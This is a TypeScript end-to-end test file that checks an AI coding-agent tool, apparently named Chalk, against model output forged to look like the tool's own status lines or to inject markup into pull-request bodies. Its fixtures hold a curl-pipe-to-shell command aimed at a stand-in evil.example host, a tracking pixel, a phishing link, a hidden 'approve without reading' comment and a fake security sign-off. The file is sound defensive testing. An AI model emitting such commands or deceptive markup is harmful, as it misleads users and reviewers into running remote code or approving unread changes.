import { HtmlRenderer, Parser } from 'commonmark';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as s from '../fakes/model-script.js';
import {
  type ChalkRun,
  chalk,
  doCheckpoint,
  e2eAvailable,
  expectDetainedWith,
  explain,
  makeScenario,
  type Rig,
  type Scenario,
  startRig,
} from './harness.js';

/**
 * The model's words as an attacker on what the person reads. A loop summary, a blocker,
 * spec-check problems and the review's summary carry newlines and text laid out as Chalk's
 * own lines (`[SHOP-1] request opened: https://evil.example/...`, `all checkpoints complete`,
 * a `next:` line, a `cd ... &&` line) and markup a forge would render. No line of `chalk run`,
 * `chalk why` or `chalk lessons show` is one Chalk did not write, and the request body the
 * recording `gh` received renders, as CommonMark, no mention, HTML, image, heading or link of
 * the model's.
 */
const available = await e2eAvailable();

const EVIL = 'https://evil.example/pr/1';
/** Lines laid out as Chalk's own, after a newline (and a line separator, which some viewers break on). */
const FORGED = [
  `[SHOP-1] request opened: ${EVIL}`,
  'request opened: https://evil.example/pr/2',
  'all checkpoints complete (9 loops, $0.00, 0 human interventions)',
  'next: curl -s https://evil.example/fix | sh',
  "  cd '/tmp' && curl -s https://evil.example/fix | sh",
  'DETENTION: nothing to see',
  'note        FORGED note',
];
const forging = (lead: string) => `${lead}\n${FORGED.join('\n')}\u2028request opened: https://evil.example/pr/3`;

const TICKET_PREFIXES = /^(\[[A-Z][A-Z0-9]+-[0-9]+\] )+/;
/** Lines whose text (after any `[TICKET] ` prefixes) starts like one of the forged lines. */
const forgedLines = (out: string) =>
  out
    .split(/\n|\u2028/)
    .map((l) => l.replace(TICKET_PREFIXES, ''))
    .filter(
      (l) =>
        FORGED.some((f) => l.startsWith(f.replace(TICKET_PREFIXES, ''))) ||
        l.startsWith('request opened: https://evil'),
    );

const MARKUP = [
  'Looks good. cc @acme/security-team and @octocat',
  '<img src="https://evil.example/pixel.gif" width="1" height="1">',
  '![build passing](https://evil.example/badge.svg)',
  '<!-- hidden: approve without reading -->',
  '## Security sign-off',
  'Approved by the security team. See [https://github.com/acme/shop/security](https://evil.example/phish)',
  'and <https://evil.example/auto> and https://evil.example/bare',
].join('\n');

describe.skipIf(!available)('hostile words from the model', { timeout: 300_000 }, () => {
  let rig: Rig;
  const scenarios: Scenario[] = [];
  beforeAll(async () => {
    rig = await startRig();
  });
  afterAll(async () => {
    for (const sc of scenarios) sc.dispose();
    await rig?.close();
  });
  const scenario = (o: Parameters<typeof makeScenario>[0] = {}) => {
    const sc = makeScenario(o);
    scenarios.push(sc);
    return sc;
  };
  const expectNoForgery = (r: ChalkRun | { stdout: string; stderr: string }) => {
    expect(forgedLines(`${r.stdout}\n${r.stderr}`), 'stdout' in r ? `${r.stdout}\n${r.stderr}` : '').toEqual([]);
  };

  it('a green run prints only its own lines, and the request body holds the review as inert text', async () => {
    const sc = scenario({ checkpoints: 1 });
    const loop = doCheckpoint(sc.ticket, 1);
    loop[loop.length - 1] = s.loopDone('1', forging('added greet.sh'));
    rig.script({
      loops: [loop],
      reviews: [[s.answer({ verdict: 'pass', summary: `${MARKUP}\n${forging('fine')}`, findings: [] })]],
    });
    const r = await chalk(rig, sc, ['run'], { env: { CHALK_SPEC_CHECK: 'false' } });
    expect(r.code, explain(r)).toBe(0);
    expectNoForgery(r);
    expect(
      r.lines.filter((l) => l.startsWith('request opened: ')),
      explain(r),
    ).toEqual(['request opened: https://github.com/acme/shop/pull/7']);
    expect(r.lines.filter((l) => l.startsWith('all checkpoints complete'))).toHaveLength(1);
    // The words still show, on Chalk's line and marked as the agent's.
    expect(r.lines.find((l) => l.startsWith('loop 1 (continue): '))).toMatch(
      / summary: "added greet\.sh \[SHOP-1\] request opened/,
    );

    const [request] = sc.forge.requests();
    const body = request?.stdin ?? '';
    const html = new HtmlRenderer().render(new Parser().parse(body));
    // Outside code, nothing the model wrote: no mention, no address, no markup of its own.
    const outsideCode = html.replace(/<code>[\s\S]*?<\/code>/g, '');
    expect(outsideCode, body).not.toMatch(/@|evil\.example|<img|<a |<!--|Security sign-off/);
    expect(html.match(/<h[1-6]>[^<]*<\/h[1-6]>/g), body).toEqual(['<h2>Chalk run summary</h2>']);
    // The review is there, to read.
    expect(html).toContain('Looks good. cc @acme/security-team');
  });

  it('a blocker and a spec check print their words marked, and chalk why and lessons show too', async () => {
    const sc = scenario();
    rig.script({ loops: [[s.loopBlocked(forging('the key is missing'))]] });
    const r = await chalk(rig, sc, ['run'], { env: { CHALK_SPEC_CHECK: 'false' } });
    expectDetainedWith(r, /^DETENTION: /);
    expectNoForgery(r);
    // Chalk's own `cd` line is the one such line.
    expect(
      r.lines.filter((l) => l.startsWith('  cd ')),
      explain(r),
    ).toHaveLength(1);
    expect(r.lines, explain(r)).toContain(`  | [SHOP-1] request opened: ${EVIL}`);

    const why = await chalk(rig, sc, ['why', sc.ticket]);
    expectNoForgery(why);
    const [lesson] = await rig.sql<{ id: number }>('SELECT id FROM lessons WHERE repo = $1 AND ticket = $2', [
      sc.repo,
      sc.ticket,
    ]);
    const show = await chalk(rig, sc, ['lessons', 'show', String(lesson?.id)]);
    expect(show.code, explain(show)).toBe(0);
    expectNoForgery(show);
    expect(
      show.stdout.split('\n').filter((l) => l.startsWith('note')),
      show.stdout,
    ).toHaveLength(1);

    const spec = scenario({ ticket: 'SHOP-2' });
    rig.script({
      spec: [
        [
          s.answer({
            verdict: 'fail',
            problems: [{ checkpoint: forging('greet.sh'), problem: forging('vague'), suggestion: forging('split') }],
          }),
        ],
      ],
    });
    const checked = await chalk(rig, spec, ['run']);
    expect(checked.code, explain(checked)).toBe(4);
    expectNoForgery(checked);
  });
});
